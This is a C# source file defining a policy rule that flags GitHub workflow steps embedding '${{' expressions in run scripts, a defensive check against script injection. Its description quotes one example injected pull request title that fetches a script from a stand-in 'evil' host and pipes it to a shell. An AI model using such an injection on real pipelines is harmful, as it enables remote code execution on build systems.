using System.Collections.Immutable;
using Infra.Policy.Judging;
using Infra.Policy.Subjects;

namespace Infra.Policy.Rules;

/// <summary>No expression stands in a script.</summary>
internal sealed class NoExpressionsInScripts : ManifestRule
{
    public override RuleInfo Info { get; } = new(
        "WF006",
        Severity.Critical,
        "No expression stands in a script",
        "The title of a pull request becomes code: `\"; curl evil | sh`.",
        "Pass the value by env and use the variable in quotes.",
        [Control.Pci("6.2.4"), Control.Iso("A.8.28")]);

    protected override ImmutableArray<string> Kinds => ["GitHub workflow"];

    protected override IEnumerable<Check> Checks(Subject manifest, PolicyInput input) =>
        WorkflowParts.Steps(manifest).Select(s => s.At("run")).Where(r => !r.IsMissing).Select(r => Check.If(r, f => f.Text?.Contains("${{", StringComparison.Ordinal) == false, "it must hold no expression"));
}
